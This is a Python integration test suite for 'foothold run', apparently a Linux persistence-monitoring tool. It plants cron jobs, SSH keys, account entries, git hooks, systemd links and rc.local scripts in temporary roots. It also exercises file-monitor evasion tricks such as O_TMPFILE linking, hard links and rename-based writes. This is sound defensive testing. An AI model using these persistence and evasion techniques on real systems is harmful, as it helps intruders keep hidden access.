#!/usr/bin/env python3
"""test_run.py - root integration tests of `foothold run` (the persistence monitor).

Usage: test_run.py BUILD [--sensor bpf|procconn]... [--only NAME]... [--dump]

Each group of tests makes a temp root R (under /var/tmp, so that hard links and renames
stay on one filesystem) holding R/etc/passwd with root and alice (home /home/alice),
starts `BUILD/foothold run --root R --json --log-file none --no-journald --sensor S`,
waits for "foothold: ready", runs its writers, waits 0.5 s, stops foothold with SIGINT
and checks the alerts, found by file.path and by the writer's pid (Popen's pid, or what
the writer printed). One line per test and sensor on stdout: "PASS root/S/run-NAME",
"FAIL root/S/run-NAME: reason" or "SKIP ..."; details on stderr. Exits 1 if any failed.
--dump writes every alert of every group to stderr (to write new expectations).

An alert is held to exact values: the item type, file.path, event.action, process.pid,
process.executable (the real path of the writer's binary), user.id, the first entries of
foothold.ancestry (this script's pid for a writer it started), attribution "exact", and
a detail field or the object that proves the content was parsed (rows.py). The procconn
sensor reads an exec's image from /proc after the fact: its alerts may instead be
"degraded" (and "unknown" for a short-lived writer) with a reason, and then every
process field they do give must still be right (docs/TESTING.md).
"""

import base64
import hashlib
import json
import os
import pwd
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback
import uuid

from harness import Fail, Foothold, Skip, check

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rows as rowdata  # noqa: E402

READY_TIMEOUT = 30.0
SETTLE = 0.5  # seconds between the last action and the stop signal
PY = os.path.realpath(sys.executable)
ALICE_UID = 1000
SETPRIV_ALICE = ["setpriv", "--reuid=%d" % ALICE_UID, "--regid=%d" % ALICE_UID,
                 "--clear-groups"]
ARGV = {}  # pid -> the argv of the image it ends in, for every writer this script ran
PASSWD = ("root:x:0:0:root:/root:/bin/bash\n"
          "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n")

# Two fixed ed25519 public keys, used when ssh-keygen is missing.
FIXED_KEYS = [
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIArCZ6A8m1lHKtus8aIsvoR244rTsoRg6te2tVXhEx1H fh-key1",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFSRuejv3ut5IF33XMw1Pck0wMxDiIHQCDAItWxSXakw fh-key2",
]

# The writer: python, writing argv[2] (base64) to argv[1]. Flags: "a" append, "d" make
# the parent directories first; argv[4] is the mode in octal.
WRITE_PY = ("import base64,os,sys\n"
            "p,c,f,m=sys.argv[1:5]\n"
            "if 'd' in f: os.makedirs(os.path.dirname(p), exist_ok=True)\n"
            "fd=os.open(p,os.O_WRONLY|os.O_CREAT|(os.O_APPEND if 'a' in f else os.O_TRUNC),"
            "int(m,8))\n"
            "os.write(fd,base64.b64decode(c))\n"
            "os.close(fd)\n")


def load_catalog():
    """type id -> its ATT&CK technique ids, from data/catalog.txt."""
    here = os.path.dirname(os.path.abspath(__file__))
    types = {}
    with open(os.path.join(here, "..", "..", "data", "catalog.txt")) as f:
        for line in f:
            w = line.split()
            if len(w) >= 4 and w[0] == "type":
                types[w[1]] = None if w[2] == "-" else w[2].split(",")
    return types


CATALOG = load_catalog()




def marker(tag="m"):
    return "fh%s%s" % (tag, uuid.uuid4().hex[:12])


def which(name):
    p = shutil.which(name)
    if not p:
        raise Skip("%s is not installed" % name)
    return os.path.realpath(p)


def get(obj, dotted):
    """The value at a dotted path ("a.b.0.c"), or KeyError."""
    for k in dotted.split("."):
        if isinstance(obj, list):
            obj = obj[int(k)]
        else:
            obj = obj[k]
    return obj


def host_user(uid):
    try:
        return pwd.getpwuid(uid).pw_name
    except KeyError:
        return None


def js(e):
    return json.dumps(e, sort_keys=True)[:6000]


class Result:
    def __init__(self, rc, out, err, root):
        self.rc = rc
        self.root = root
        self.err = err
        self.events = []
        lines = out.split(b"\n")
        check(lines[-1] == b"", "stdout does not end with a newline", lines[-1][:300])
        for n, line in enumerate(lines[:-1]):
            try:
                self.events.append(json.loads(line))
            except ValueError as e:
                raise Fail("stdout line %d is not JSON: %s" % (n + 1, e), line[:300])
        self.alerts = [e for e in self.events
                       if e.get("event", {}).get("kind") in ("alert", "event")]

    def at(self, path):
        return [e for e in self.alerts if e.get("file", {}).get("path") == path]

    def under(self, prefix):
        return [e for e in self.alerts if e.get("file", {}).get("path", "").startswith(prefix)]


class Monitor(Foothold):
    """`foothold run` as a subprocess (harness.Foothold)."""

    def __init__(self, ctx, sensor, root=None, extra=()):
        self.ctx = ctx
        self.sensor = sensor
        self.root = root
        # Decisions' state (pending alerts, quarantine, rules, socket) in the test's own
        # directory, never in /var/lib/foothold or /run/foothold.
        conf = [] if "-c" in extra else ["-c", ctx.conf]
        super().__init__([ctx.foothold, "run", "--json", "--log-file", "none", "--no-journald",
                          "--sensor", sensor] + conf + (["--root", root] if root else []) +
                         list(extra), "foothold run", READY_TIMEOUT)

    def stop(self, sig=signal.SIGINT, settle=SETTLE):
        rc, out, err = self.finish(sig, settle)
        res = Result(rc, out, err, self.root)
        stops = [e for e in res.events if e.get("event", {}).get("kind") == "metric" and
                 e["event"].get("action") == "stop"]
        check(len(stops) == 1, "%d health records with action stop, expected 1" % len(stops))
        if self.ctx.dump:
            sys.stderr.write("=== alerts (%s, %d)\n" % (self.sensor, len(res.alerts)))
            for e in res.alerts:
                sys.stderr.write(json.dumps(e) + "\n")
            for e in stops:
                sys.stderr.write("stop: " + json.dumps(e["foothold"]) + "\n")
        return res


class Root:
    """A temp root: R/etc/passwd with root and alice, and their homes."""

    def __init__(self, ctx, tag):
        self.dir = os.path.realpath(tempfile.mkdtemp(prefix="%s-" % tag, dir=ctx.base))
        os.chmod(self.dir, 0o755)
        self.mkdir("/root")
        os.chown(self.mkdir("/home/alice"), ALICE_UID, ALICE_UID)
        self.write("/etc/passwd", PASSWD)

    def host(self, rel):
        return self.dir + rel

    def mkdir(self, rel):
        os.makedirs(self.host(rel), exist_ok=True)
        return self.host(rel)

    def write(self, rel, content, perm=0o644):
        """Written by this script, before foothold starts."""
        h = self.host(rel)
        os.makedirs(os.path.dirname(h), exist_ok=True)
        data = content.encode() if isinstance(content, str) else content
        with open(h, "wb") as f:
            f.write(data)
        os.chmod(h, perm)
        return h


def decisions_conf(base):
    """A [decisions] section keeping all of foothold's state under base (and its pid file)."""
    return ("[decisions]\nrules_dir = %s/rules.d\nlearned_rules = %s/learned.rules\n"
            "quarantine_dir = %s/quarantine\nstate_dir = %s/state\nsocket = none\n"
            "[general]\npid_file = %s/foothold.pid\n" %
            (base, base, base, base, base))


class Ctx:
    def __init__(self, build, dump):
        self.build = os.path.realpath(build)
        self.foothold = os.path.join(self.build, "foothold")
        if not os.access(self.foothold, os.X_OK):
            raise SystemExit("test_run.py: %s is missing; build first" % self.foothold)
        self.dump = dump
        self.base = os.path.realpath(tempfile.mkdtemp(prefix="fh-run-", dir="/var/tmp"))
        os.chmod(self.base, 0o755)
        self.children = []
        self.keys = self._keys()
        self.conf = os.path.join(self.base, "foothold.conf")
        with open(self.conf, "w") as f:
            f.write(decisions_conf(self.base))

    def _keys(self):
        """Two ed25519 public key lines, fresh from ssh-keygen when it is there."""
        kg = shutil.which("ssh-keygen")
        if not kg:
            return list(FIXED_KEYS)
        keys = []
        for i in (1, 2):
            f = os.path.join(self.base, "key%d" % i)
            subprocess.run([kg, "-q", "-t", "ed25519", "-N", "", "-C", "fh-key%d" % i, "-f", f],
                           check=True, stdin=subprocess.DEVNULL)
            with open(f + ".pub") as fp:
                keys.append(fp.read().strip())
        return keys

    def spawn(self, argv, image=None, **kw):
        """Starts argv; image is the argv of the program it execs in the end (setpriv)."""
        kw.setdefault("stdin", subprocess.DEVNULL)
        p = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)
        self.children.append(p)
        ARGV[p.pid] = list(image or argv)
        return p

    def run(self, argv, timeout=30, input=None, image=None, **kw):
        """Runs argv to its end; returns (pid, stdout text)."""
        if input is not None:
            kw["stdin"] = subprocess.PIPE
        p = self.spawn(argv, image, **kw)
        try:
            out, err = p.communicate(input=input, timeout=timeout)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()
            raise Fail("%s did not finish in %ds" % (argv[:3], timeout))
        check(p.returncode == 0, "%s exited %d" % (argv[:3], p.returncode),
              err.decode("utf-8", "replace"))
        return p.pid, out.decode("utf-8", "replace")

    def py_write(self, host, content, append=False, perm=0o644, makedirs=False, uid=0):
        """python writes content to host (as uid, through setpriv); returns its pid."""
        data = content.encode() if isinstance(content, str) else content
        flags = ("a" if append else "w") + ("d" if makedirs else "")
        argv = [PY, "-S", "-c", WRITE_PY, host, base64.b64encode(data).decode(), flags,
                "%o" % perm]
        if uid == ALICE_UID:
            return self.run(SETPRIV_ALICE + argv, image=argv)[0]
        return self.run(argv)[0]

    def reap_children(self):
        for p in self.children:
            if p.poll() is None:
                p.kill()
                p.wait()
        self.children = []

    def cleanup(self):
        self.reap_children()
        shutil.rmtree(self.base, ignore_errors=True)


def only(events, what):
    check(len(events) == 1, "expected exactly one %s, got %d" % (what, len(events)),
          *[js(e) for e in events[:5]])
    return events[0]


def check_writer(e, sensor, pid, exe, uid=0, chain=None, lingering=False, allow=(),
                 pid_optional=False):
    """
    The alert's writer: process.pid is pid. An exact attribution gives the executable exe,
    the argv this script ran (ARGV), comm, user.id uid, and the nearest ancestors' pids
    equal chain (default: this script). Otherwise the status must be one of allow, or
    from procconn "degraded" (it reads every image from /proc after the fact, so all its
    execs are flagged proc_racy) and, for a writer that did not linger, "unknown"; it
    must give a reason, and every process field it does give must still be right: a
    missing value is acceptable, a wrong one never. From procconn a lingering writer must
    still be named (process.executable). pid_optional: a non-exact alert may lack
    process.pid (an item found by a scan, not by an event).
    """
    p = e.get("process", {})
    att = e.get("foothold", {}).get("attribution", {})
    st = att.get("status")
    chain = [os.getpid()] if chain is None else chain
    ok = set(allow)
    if sensor == "procconn":
        ok |= {"degraded"} if lingering else {"degraded", "unknown"}
    if st != "exact":
        check(st in ok, "attribution %r (%r), expected exact" % (st, att.get("reason")), js(e))
        check(isinstance(att.get("reason"), str) and att["reason"],
              "attribution %r without a reason" % st, js(e))
    else:
        check("reason" not in att, "exact attribution with a reason %r" % att.get("reason"))
    if st == "exact" or "pid" in p or not pid_optional:
        check(p.get("pid") == pid, "process.pid %r, expected the writer %d" %
              (p.get("pid"), pid), js(e))
    if st == "exact" or (sensor == "procconn" and lingering):
        check("executable" in p, "attribution %s without process.executable" % st, js(e))
    if "executable" in p:
        check(p["executable"] == exe, "process.executable %r, expected %r" %
              (p["executable"], exe), js(e))
    if "entity_id" in p:
        check("-%d-" % pid in p["entity_id"], "process.entity_id %r" % p["entity_id"])
    args = ARGV.get(pid)
    if args is not None and (st == "exact" or "args" in p):
        check(p.get("args") == args, "process.args %r, expected %r" % (p.get("args"), args),
              js(e))
    if "name" in p or st == "exact":
        want = os.path.basename(exe)[:15]
        check(p.get("name") == want, "process.name %r, expected %r" % (p.get("name"), want))
    if st == "exact" or "user" in e:
        check(e.get("user", {}).get("id") == str(uid), "user.id %r, expected %r" %
              (e.get("user", {}).get("id"), str(uid)), js(e))
        # The writer is a process of this host: its name is the host's, not R's.
        want = host_user(uid)
        check(e["user"].get("name") == want, "user.name %r, expected %r (this host's)" %
              (e["user"].get("name"), want))
    for k in ("user", "real_user"):
        if k in p:
            check(p[k].get("id") == str(uid), "process.%s.id %r" % (k, p[k].get("id")))
    anc = e.get("foothold", {}).get("ancestry", [])
    if st == "exact" or anc:
        got = [a.get("pid") for a in anc[:len(chain)]]
        check(got == chain, "ancestry pids %r, expected %r first" % (got, chain), js(e))
        if "parent" in p and chain:
            check(p["parent"].get("pid") == chain[0], "process.parent.pid %r, expected %d" %
                  (p["parent"].get("pid"), chain[0]))
        for a in anc:
            if a.get("pid") == os.getpid():
                check(a.get("executable") == PY, "ancestry: this script's executable %r, "
                      "expected %r" % (a.get("executable"), PY))


EVENT_TYPE = {"created": ["creation"], "modified": ["change"], "attrib": ["change"],
              "deleted": ["deletion"], "renamed": ["creation", "change"]}


def check_alert(res, sensor, path, typ, action, pid, exe, **kw):
    """The one alert at path; checks its envelope, type, action and writer; returns it."""
    e = only(res.at(path), "alert at %s" % path)
    ev, f, fh = e["event"], e.get("file", {}), e.get("foothold", {})
    check(ev.get("kind") == "alert" and ev.get("category") == ["file"] and
          ev.get("dataset") == "foothold.alert" and ev.get("severity") == 73 and
          e.get("log", {}).get("level") == "warning",
          "not an alert's envelope", js(e))
    check(fh["item"]["type"] == typ, "item type %r, expected %r" % (fh["item"]["type"], typ),
          js(e))
    check(ev.get("action") == action, "event.action %r, expected %r" % (ev.get("action"),
                                                                      action), js(e))
    check(ev.get("type") == EVENT_TYPE[action], "event.type %r for %s" % (ev.get("type"),
                                                                        action))
    check((f.get("directory"), f.get("name")) == os.path.split(path),
          "file.directory/name %r %r" % (f.get("directory"), f.get("name")))
    check(fh.get("root") == res.root, "foothold.root %r, expected %r" % (fh.get("root"),
                                                                         res.root))
    tech = CATALOG.get(typ)
    check(e.get("threat", {}).get("technique", {}).get("id") == tech,
          "threat.technique.id %r, expected %r (data/catalog.txt)" %
          (e.get("threat", {}).get("technique", {}).get("id"), tech))
    check_writer(e, sensor, pid, exe, **kw)
    return e


def check_content(e, data):
    """file.hash.sha256 and file.size are those of the bytes written."""
    f = e.get("file", {})
    check(f.get("size") == len(data), "file.size %r, expected %d" % (f.get("size"), len(data)))
    check(f.get("hash", {}).get("sha256") == hashlib.sha256(data).hexdigest(),
          "file.hash.sha256 is not that of the content written", js(e))


def key_fingerprint(line):
    """SHA256:... of an OpenSSH public key line, as ssh-keygen -l prints it."""
    blob = base64.b64decode(line.split()[1])
    return "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")


def added_lines(detail):
    """The text of every "added" entry in a detail (any depth): diff lines and the like."""
    out = []

    def walk(x, key=None):
        if isinstance(x, dict):
            for k, v in x.items():
                walk(v, k)
        elif isinstance(x, list):
            for v in x:
                if key == "added":
                    out.append(v.get("text", v.get("line")) if isinstance(v, dict) else v)
                walk(v, None)
    walk(detail)
    return out


# ---- Groups: one foothold run each, one test result per case. ----
#
# A group is a function (ctx, sensor, cases) that returns {case name: callable check}
# or raises Fail (then every case of the group fails with that reason). cases is the
# list of case names selected by --only.


def fill(s, ctx):
    """rows.py's placeholders: the generated keys and the second key's fingerprint."""
    if isinstance(s, str):
        return (s.replace("{KEY1}", ctx.keys[0]).replace("{KEY2}", ctx.keys[1])
                .replace("{FP2}", key_fingerprint(ctx.keys[1])))
    return s


def expand(k):
    """rows.py's short keys: "object", "home", "d.x" (the detail)."""
    if k in ("object", "home"):
        return {"object": "foothold.item.object", "home": "foothold.item.home.user"}[k]
    return "foothold.item.detail." + k[2:] if k.startswith("d.") else k


def row_name(r):
    return "row-" + r.get("name", r["type"])


def g_rows(ctx, sensor, cases):
    """All catalog rows in one run: one item of each of the 59 types."""
    rows = [r for r in rowdata.ROWS if row_name(r) in cases]
    root = Root(ctx, "rows")
    for r in rows:
        d = os.path.dirname(r["path"])
        if r.get("late"):
            check(not os.path.exists(root.host(d)), "%s exists before start" % d)
            continue
        root.mkdir(d)
        if r.get("chmod"):
            root.write(r["path"], r["content"], 0o755)
        elif r.get("pre") is not None:
            root.write(r["path"], fill(r["pre"], ctx))
    done = {}
    with Monitor(ctx, sensor, root.dir) as mon:
        for r in rows:
            h = root.host(r["path"])
            content = fill(r["content"], ctx)
            if r.get("late") == "runner":
                os.makedirs(os.path.dirname(h))
            if r.get("link"):
                pid = ctx.run([PY, "-S", "-c", "import os,sys; os.symlink(*sys.argv[1:3])",
                               content, h])[0]
                exe = PY
            elif r.get("chmod"):
                exe = which("chmod")
                pid = ctx.run([exe, r["chmod"], h])[0]
            else:
                append = r.get("pre") is not None or r["path"] == "/etc/passwd"
                pid = ctx.py_write(h, content, append=append, perm=r.get("perm", 0o644),
                                   makedirs=r.get("late") == "writer", uid=r.get("uid", 0))
                exe = PY
            done[row_name(r)] = (r, pid, exe)
        res = mon.stop()

    def checker(r, pid, exe):
        def c():
            content = fill(r["content"], ctx)
            append = r.get("pre") is not None or r["path"] == "/etc/passwd"
            action = "attrib" if r.get("chmod") else "modified" if append else "created"
            # A directory made and written into at once may be found by a scan of the new
            # directory rather than by an event: then the writer may be unknown.
            late = r.get("late") == "writer"
            e = check_alert(res, sensor, r["path"], r["type"], action, pid, exe,
                            allow=("degraded", "unknown") if late else (), pid_optional=late,
                            uid=r.get("uid", 0))
            if "uid" in r:
                check(e["file"].get("uid") == str(r["uid"]), "file.uid %r" % e["file"].get("uid"))
            data = content.encode() if isinstance(content, str) else content
            if append:
                old = fill(r.get("pre"), ctx) if r["path"] != "/etc/passwd" else PASSWD
                data = old.encode() + data
            if not r.get("link"):
                check_content(e, data)
            for k, v in r.get("expect", {}).items():
                k, v = expand(k), fill(v, ctx)
                try:
                    got = get(e, k)
                except (KeyError, IndexError, TypeError):
                    raise Fail("no %s in the alert (expected %r)" % (k, v), js(e))
                check(got == v, "%s is %r, expected %r" % (k, got, v), js(e))
            text = json.dumps(e)
            for s in r.get("absent", []):
                check(s not in text, "the alert contains %r" % s, js(e))
            if append and r["type"] != "account-db":
                new = [ln for ln in content.splitlines() if ln]
                got = added_lines(e["foothold"]["item"].get("detail", {}))
                check(all(ln in got for ln in new), "detail does not list the added lines "
                      "%r (added: %r)" % (new, got), js(e))
            if r["type"] == "ssh-authorized-keys":
                fp = key_fingerprint(ctx.keys[1])
                check(fp in text, "the new key's fingerprint %s is not in the alert" % fp,
                      js(e))
            if r["type"] == "account-db":
                check("fhuser" in json.dumps(e["foothold"]["item"].get("detail")),
                      "the detail does not name the added account fhuser", js(e))
        return c
    checks = {name: checker(*v) for name, v in done.items()}
    if "rows-no-stray" in cases:
        def t_stray():
            want = {r["path"] for r in rowdata.ROWS}
            stray = [e for e in res.alerts if e.get("file", {}).get("path") not in want]
            check(not stray, "%d alerts at paths no row wrote" % len(stray), *map(js, stray))
            ids = [e["foothold"]["alert"]["id"] for e in res.alerts]
            check(len(set(ids)) == len(ids), "alert ids are not unique")
        checks["rows-no-stray"] = t_stray
    return checks


def case_names_rows():
    return [row_name(r) for r in rowdata.ROWS] + ["rows-no-stray"]


# ---- evasions ----

def g_evasions(ctx, sensor, cases):
    """Tools and tricks that write an item without a plain open-write-close at its name."""
    root = Root(ctx, "evasion")
    cd = root.mkdir("/etc/cron.d")
    spool = root.mkdir("/var/spool/cron/crontabs")
    other = root.mkdir("/other")  # not in the catalog, same filesystem
    outside = tempfile.mkdtemp(prefix="outside-", dir=ctx.base)
    line = lambda tag: "* * * * * root /tmp/fh-%s\n" % tag  # noqa: E731
    sed = "/etc/cron.d/sedjob"
    root.write(sed, line("sed-old"))
    root.write("/var/spool/cron/crontabs/alice", "0 * * * * /bin/true\n", 0o600)
    root.write("/home/alice/.gitconfig", "[user]\n\tname = alice\n")
    root.write("/etc/cron.d/hard", line("hard"))
    os.link(root.host("/etc/cron.d/hard"), os.path.join(other, "h2"))
    appends = {"shell-append": "/etc/cron.d/app-sh", "tee-append": "/etc/cron.d/app-tee",
               "dd-append": "/etc/cron.d/app-dd", "python-append": "/etc/cron.d/app-py"}
    for p in appends.values():
        root.write(p, line("base"))
    src = os.path.join(outside, "src-cp")
    with open(src, "w") as f:
        f.write(line("cp-a"))
    os.chmod(src, 0o644)
    src_inst = os.path.join(outside, "src-install")
    with open(src_inst, "w") as f:
        f.write(line("install"))
    chmods = {"chmod-cron-daily": ("/etc/cron.daily/fh-daily", "cron-periodic"),
              "chmod-motd": ("/etc/update-motd.d/50-fh", "motd"),
              "chmod-rc-local": ("/etc/rc.local", "rc-local"),
              "chmod-generator": ("/etc/systemd/system-generators/fh-gen", "systemd-generator")}
    for p, _ in chmods.values():
        root.write(p, "#!/bin/sh\n/tmp/fh-chmod\n", 0o644)
    root.write("/etc/cron.d/touched", line("touch"))
    root.write("/etc/cron.d/same", line("same"))
    root.write("/etc/cron.d/gone", line("gone"))
    root.write("/etc/cron.d/away", line("away"))
    root.write("/etc/cron.d/two", line("two"))
    wants = root.mkdir("/etc/systemd/system/multi-user.target.wants")
    tool = {n: which(n) for n in ("sh", "mv", "sed", "tee", "dd", "cp", "install", "chmod",
                                   "touch", "ln", "rm")}
    git = shutil.which("git")
    out = {}
    with Monitor(ctx, sensor, root.dir) as mon:
        # mv of a file made outside the root, and of one made elsewhere in the root.
        tmpx = os.path.join(outside, "x")
        with open(tmpx, "w") as f:
            f.write(line("mv"))
        out["mv-in"] = ctx.run([tool["mv"], tmpx, cd + "/moved"])[0]
        with open(os.path.join(other, "y"), "w") as f:
            f.write(line("mv2"))
        out["mv-in-root"] = ctx.run([tool["mv"], os.path.join(other, "y"), cd + "/moved2"])[0]
        # sed -i: a temp file in /etc/cron.d renamed over the item.
        out["sed-i"] = ctx.run([tool["sed"], "-i", "s/sed-old/sed-new/", root.host(sed)])[0]
        # crontab(1): tmp.XXXXXX in the spool directory, renamed to the user's name.
        code = ("import os,sys,tempfile\n"
                "fd,t=tempfile.mkstemp(prefix='tmp.',dir=sys.argv[1])\n"
                "os.write(fd,b'*/3 * * * * /tmp/fh-crontab-e\\n'); os.fchmod(fd,0o600)\n"
                "os.close(fd); os.rename(t, os.path.join(sys.argv[1],'alice'))\n")
        out["crontab-rename"] = ctx.run([PY, "-S", "-c", code, spool])[0]
        # git: ~/.gitconfig.lock renamed to ~/.gitconfig.
        env = dict(os.environ, HOME=root.host("/home/alice"), XDG_CONFIG_HOME="/nonexistent",
                   GIT_CONFIG_NOSYSTEM="1")
        if git:
            tool["git"] = os.path.realpath(git)
            out["git-lock"] = ctx.run([tool["git"], "config", "--global", "core.hooksPath",
                                       "/tmp/fh-git-hooks"], env=env)[0]
        # A symlinked directory on the way.
        link = os.path.join(outside, "link")
        os.symlink(cd, link)
        out["symlink-dir"] = ctx.run([tool["sh"], "-c", 'printf "%s" > "$1"' % line("link"),
                                      "sh", link + "/viasym"])[0]
        # A hard link outside the watched directories.
        out["hard-link"] = ctx.run([PY, "-S", "-c", "import sys; open(sys.argv[1],'a')"
                                    ".write(sys.argv[2])", os.path.join(other, "h2"),
                                    line("hard2")])[0]
        # O_TMPFILE, written, then linked into place.
        # (os.link calls link(2), which does not follow /proc/self/fd's magic link.)
        code = ("import ctypes,os,sys\n"
                "fd=os.open(os.path.dirname(sys.argv[1]),os.O_TMPFILE|os.O_WRONLY,0o644)\n"
                "os.write(fd,sys.argv[2].encode())\n"
                "libc=ctypes.CDLL(None,use_errno=True)\n"
                "AT_FDCWD,AT_SYMLINK_FOLLOW=-100,0x400\n"
                "if libc.linkat(AT_FDCWD,b'/proc/self/fd/%d'%fd,AT_FDCWD,"
                "os.fsencode(sys.argv[1]),AT_SYMLINK_FOLLOW):\n"
                "    raise OSError(ctypes.get_errno(),'linkat')\n"
                "os.close(fd)\n")
        out["o-tmpfile"] = ctx.run([PY, "-S", "-c", code, cd + "/tmpfile", line("tmpfile")])[0]
        # Appends, each by another program.
        out["shell-append"] = ctx.run([tool["sh"], "-c", 'printf "%s" >> "$1"' % line("sh"),
                                       "sh", root.host(appends["shell-append"])])[0]
        out["tee-append"] = ctx.run([tool["tee"], "-a", root.host(appends["tee-append"])],
                                    input=line("tee").encode())[0]
        ddsrc = os.path.join(outside, "dd-src")
        with open(ddsrc, "w") as f:
            f.write(line("dd"))
        out["dd-append"] = ctx.run([tool["dd"], "if=" + ddsrc,
                                    "of=" + root.host(appends["dd-append"]), "conv=notrunc",
                                    "oflag=append", "status=none"])[0]
        out["python-append"] = ctx.py_write(root.host(appends["python-append"]), line("py"),
                                            append=True)
        out["cp-a"] = ctx.run([tool["cp"], "-a", src, cd + "/copied"])[0]
        out["install"] = ctx.run([tool["install"], "-m", "0644", src_inst,
                                  cd + "/installed"])[0]
        # chmod +x activates a script already there; touch changes nothing that matters.
        for name, (p, _) in chmods.items():
            out[name] = ctx.run([tool["chmod"], "+x", root.host(p)])[0]
        out["touch-no-alert"] = ctx.run([tool["touch"], root.host("/etc/cron.d/touched")])[0]
        # systemctl enable: a symlink, never written.
        out["enable-symlink"] = ctx.run([tool["ln"], "-s", "/lib/systemd/system/foo.service",
                                         wants + "/foo.service"])[0]
        # The same bytes written again: no change, no alert.
        out["same-bytes-no-alert"] = ctx.py_write(root.host("/etc/cron.d/same"), line("same"))
        # Deleted, and moved out of the catalog: the item is gone.
        out["rm-deleted"] = ctx.run([tool["rm"], root.host("/etc/cron.d/gone")])[0]
        out["mv-away"] = ctx.run([tool["mv"], root.host("/etc/cron.d/away"), other + "/away"])[0]
        # Two writers, one after the other: one alert each.
        out["two-writers"] = (
            ctx.py_write(root.host("/etc/cron.d/two"), line("two-py"), append=True),
            ctx.run([tool["sh"], "-c", 'printf "%s" >> "$1"' % line("two-sh"), "sh",
                     root.host("/etc/cron.d/two")])[0])
        res = mon.stop()

    def ck(name, path, typ, action, exe, **kw):
        return lambda: check_alert(res, sensor, path, typ, action, out[name], exe, **kw)

    def content(path, want):
        with open(root.host(path), "rb") as f:
            data = f.read()
        check(data == want.encode(), "test bug: %s holds %r" % (path, data))
        return data

    def t_mv_in(name, path, tag, old):
        """
        A file moved in from a directory outside the catalog is a new item: "created",
        or "renamed" with the in-root path it came from, when foothold can tell.
        """
        def c():
            e = only(res.at(path), "alert at %s" % path)
            act = e["event"]["action"]
            check(act in ("created", "renamed"), "event.action %r" % act, js(e))
            check_alert(res, sensor, path, "cron-d", act, out[name], tool["mv"])
            op = e["foothold"].get("file", {}).get("old_path")
            check(op == (old if act == "renamed" else None),
                  "%s with foothold.file.old_path %r (moved from %r)" % (act, op, old), js(e))
            check(e["foothold"]["item"].get("object") == "/tmp/fh-" + tag, "object %r" %
                  e["foothold"]["item"].get("object"), js(e))
        return c

    def t_sed():
        e = check_alert(res, sensor, sed, "cron-d", "modified", out["sed-i"], tool["sed"])
        check_content(e, content(sed, line("sed-new")))
        check(e["foothold"]["item"].get("object") == "/tmp/fh-sed-new", "object", js(e))
        stray = [a for a in res.under("/etc/cron.d/") if a["file"]["path"] != sed and
                 a.get("process", {}).get("pid") == out["sed-i"]]
        check(not stray, "alerts at sed's temporary name", *map(js, stray))

    def t_crontab():
        p = "/var/spool/cron/crontabs/alice"
        e = check_alert(res, sensor, p, "cron-user", "modified", out["crontab-rename"], PY)
        check(e["foothold"]["item"].get("object") == "/tmp/fh-crontab-e", "object", js(e))
        stray = [a for a in res.under("/var/spool/cron/") if a["file"]["path"] != p]
        check(not stray, "alerts at the temporary name", *map(js, stray))

    def t_git():
        if not git:
            raise Skip("git is not installed")
        p = "/home/alice/.gitconfig"
        e = check_alert(res, sensor, p, "git-hook", "modified", out["git-lock"], tool["git"])
        check("hooksPath" in json.dumps(e["foothold"]["item"]), "no hooksPath in the item",
              js(e))
        stray = [a for a in res.under("/home/alice/") if a["file"]["path"] != p]
        check(not stray, "alerts at git's lock file", *map(js, stray))

    def t_symlink_dir():
        e = check_alert(res, sensor, "/etc/cron.d/viasym", "cron-d", "created",
                        out["symlink-dir"], tool["sh"])
        check(e["foothold"]["item"].get("object") == "/tmp/fh-link", "object", js(e))

    def t_hard():
        e = check_alert(res, sensor, "/etc/cron.d/hard", "cron-d", "modified",
                        out["hard-link"], PY)
        check_content(e, content("/etc/cron.d/hard", line("hard") + line("hard2")))
        check(e["foothold"].get("file", {}).get("nlink") == 2, "foothold.file.nlink %r" %
              e["foothold"].get("file", {}).get("nlink"), js(e))

    def t_tmpfile():
        e = check_alert(res, sensor, "/etc/cron.d/tmpfile", "cron-d", "created",
                        out["o-tmpfile"], PY)
        check_content(e, content("/etc/cron.d/tmpfile", line("tmpfile")))
        stray = [a for a in res.alerts if "#" in a["file"]["path"]]
        check(not stray, "alerts at the O_TMPFILE's #inode name", *map(js, stray))

    def t_append(name, exe, tag):
        def c():
            p = appends[name]
            e = check_alert(res, sensor, p, "cron-d", "modified", out[name], exe)
            check_content(e, content(p, line("base") + line(tag)))
            got = added_lines(e["foothold"]["item"].get("detail", {}))
            check(line(tag).rstrip("\n") in got, "added lines %r" % got, js(e))
        return c

    def t_copy(name, path, exe, tag):
        def c():
            e = check_alert(res, sensor, path, "cron-d", "created", out[name], exe)
            check_content(e, content(path, line(tag)))
        return c

    def t_chmod(name):
        def c():
            p, typ = chmods[name]
            e = check_alert(res, sensor, p, typ, "attrib", out[name], tool["chmod"])
            check(e["file"].get("mode") == "0755", "file.mode %r" % e["file"].get("mode"))
        return c

    def t_touch():
        got = res.at("/etc/cron.d/touched")
        check(not got, "%d alerts for a touch" % len(got), *map(js, got))

    def t_enable():
        p = "/etc/systemd/system/multi-user.target.wants/foo.service"
        e = check_alert(res, sensor, p, "systemd-enable-link", "created",
                        out["enable-symlink"], tool["ln"])
        check(e["file"].get("type") == "symlink", "file.type %r" % e["file"].get("type"))
        check(e["file"].get("target_path") == "/lib/systemd/system/foo.service",
              "file.target_path %r" % e["file"].get("target_path"), js(e))

    def t_same():
        got = res.at("/etc/cron.d/same")
        check(not got, "%d alerts for a rewrite of the same bytes" % len(got), *map(js, got))

    def t_gone(name, path, exe):
        def c():
            e = check_alert(res, sensor, path, "cron-d", "deleted", out[name], exe)
            for k in ("type", "size", "mode", "hash", "inode"):
                check(k not in e["file"], "file.%s in a deleted alert" % k, js(e))
            check(e["event"].get("type") == ["deletion"], "event.type %r" % e["event"]["type"])
        return c

    def t_two():
        py, sh = out["two-writers"]
        got = res.at("/etc/cron.d/two")
        check(len(got) == 2, "%d alerts for two writers, expected 2" % len(got), *map(js, got))
        check([e.get("process", {}).get("pid") for e in got] == [py, sh],
              "writers %r, expected %r in that order" %
              ([e.get("process", {}).get("pid") for e in got], [py, sh]))
